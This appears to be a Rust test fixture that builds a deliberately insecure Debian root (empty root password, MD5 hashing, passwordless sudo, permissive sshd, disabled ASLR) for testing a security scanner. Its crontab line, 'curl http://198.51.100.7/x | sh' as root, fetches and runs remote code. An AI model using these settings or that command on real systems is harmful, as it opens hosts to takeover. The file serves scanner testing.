//! A root that a test makes hostile: a small Debian that breaks many rules, so that a check which passes on it passes for a
//! reason.

use std::fs::{self, File};
use std::path::{Path, PathBuf};

use rustix::fs::{CWD, FileType, Mode, makedev, mknodat};
use tempfile::TempDir;

use super::program::{Ran, agent};

/// What breaks rules when it is read.
const FILES: [(&str, &str); 16] = [
    (
        "etc/passwd",
        "root:x:0:0:root:/root:/bin/bash\nadmin:x:0:0::/home/admin:/bin/sh\nbob:x:1000:77::/home/bob:/bin/sh\n",
    ),
    ("etc/group", "root:x:0:\nshadow:x:42:bob\nsudo:x:27:bob\n"),
    (
        "etc/shadow",
        "root::19000:0:99999:7:::\nadmin:$1$salt$xxxxxxxxxxxxxxxxxxxxxx:1:0:99999:7:::\nbob:!:19000::::::\n",
    ),
    ("etc/gshadow", "root:*::\nshadow::bob:bob\n"),
    ("etc/os-release", "PRETTY_NAME=\"Debian GNU/Linux 12 (bookworm)\"\nID=debian\nVERSION_ID=\"12\"\n"),
    ("etc/ssh/sshd_config", "PermitRootLogin yes\nMaxAuthTries 9\nPermitEmptyPasswords yes\nX11Forwarding yes\n"),
    ("etc/login.defs", "PASS_MAX_DAYS 99999\nPASS_MIN_DAYS 0\nPASS_WARN_AGE 1\nENCRYPT_METHOD MD5\nUMASK 000\n"),
    ("etc/pam.d/common-auth", "auth sufficient pam_unix.so nullok\n"),
    ("etc/pam.d/common-password", "password sufficient pam_unix.so md5 nullok\n"),
    ("etc/sudoers", "Defaults !authenticate\nALL ALL=(ALL) NOPASSWD: ALL\n@includedir /etc/sudoers.d\n"),
    ("etc/sudoers.d/open", "bob ALL=(ALL) NOPASSWD: ALL\n"),
    (
        "etc/sysctl.conf",
        "net.ipv4.ip_forward = 1\nkernel.randomize_va_space = 0\nnet.ipv4.conf.all.accept_redirects = 1\n",
    ),
    ("etc/fstab", "/dev/sda1 / ext4 defaults 0 1\n/dev/sda2 /tmp ext4 defaults 0 2\n"),
    ("etc/crontab", "* * * * * root curl http://198.51.100.7/x | sh\n"),
    ("etc/profile", "umask 000\n"),
    (
        "var/lib/dpkg/status",
        "Package: telnet\nStatus: install ok installed\nVersion: 0.17\n\nPackage: openssh-server\nStatus: install ok installed\n\
         Version: 1:9.2p1-2\n\nPackage: auditd\nStatus: install ok installed\nVersion: 1\n\n",
    ),
];

/// See the module. It is gone when dropped.
pub struct Host {
    folder: TempDir,
}

impl Host {
    pub fn new() -> Self {
        Self::within(std::env::temp_dir())
    }

    /// In memory, for what takes many entries.
    pub fn in_memory() -> Self {
        let shared = PathBuf::from("/dev/shm");
        Self::within(if shared.is_dir() { shared } else { std::env::temp_dir() })
    }

    fn within(folder: PathBuf) -> Self {
        let host = Host { folder: tempfile::tempdir_in(folder).unwrap() };
        for (path, content) in FILES {
            host.write(path, content);
        }
        host.write("usr/sbin/sshd", "");
        for folder in ["tmp", "var/tmp", "root", "home/bob", "var/log", "run"] {
            fs::create_dir_all(host.path(folder)).unwrap();
        }
        host
    }

    pub fn root(&self) -> &str {
        self.folder.path().to_str().unwrap()
    }

    pub fn path(&self, path: &str) -> PathBuf {
        self.folder.path().join(path.trim_start_matches('/'))
    }

    /// The place of a file, empty and with the folders above it.
    pub fn place(&self, path: &str) -> PathBuf {
        let path = self.path(path);
        fs::create_dir_all(path.parent().unwrap()).unwrap();
        if path.symlink_metadata().is_ok() {
            fs::remove_file(&path).unwrap();
        }
        path
    }

    pub fn write(&self, path: &str, content: impl AsRef<[u8]>) {
        fs::write(self.place(path), content).unwrap();
    }

    pub fn link(&self, path: &str, target: impl AsRef<Path>) {
        std::os::unix::fs::symlink(target, self.place(path)).unwrap();
    }

    pub fn sparse(&self, path: &str, bytes: u64) {
        File::create(self.place(path)).unwrap().set_len(bytes).unwrap();
    }

    /// Puts there what is no file.
    pub fn node(&self, path: &str, node: Node) {
        let path = self.place(path);
        let mode = Mode::from_raw_mode(0o644);
        match node {
            Node::Fifo => mknodat(CWD, &path, FileType::Fifo, mode, 0).unwrap(),
            Node::Socket => mknodat(CWD, &path, FileType::Socket, mode, 0).unwrap(),
            // `/dev/zero`: it never ends.
            Node::Device => mknodat(CWD, &path, FileType::CharacterDevice, mode, makedev(1, 5)).unwrap(),
        }
    }

    /// Scans all of it.
    pub fn scan(&self, seconds: u64) -> Ran {
        agent(&["scan", "--root", self.root(), "-o", "json"], seconds)
    }

    /// Scans it with some modules.
    pub fn scan_with(&self, modules: &str, seconds: u64) -> Ran {
        agent(&["scan", "--root", self.root(), "-o", "json", "--modules", modules], seconds)
    }

    /// Asks it, with a time for the statement.
    pub fn query(&self, sql: &str, seconds: u64) -> Ran {
        let timeout = seconds.to_string();
        agent(&["query", sql, "--root", self.root(), "-o", "json", "--timeout", &timeout], seconds * 2 + 10)
    }
}

/// What can lie in the place of a file.
#[derive(Debug, Clone, Copy)]
pub enum Node {
    Fifo,
    Socket,
    Device,
}
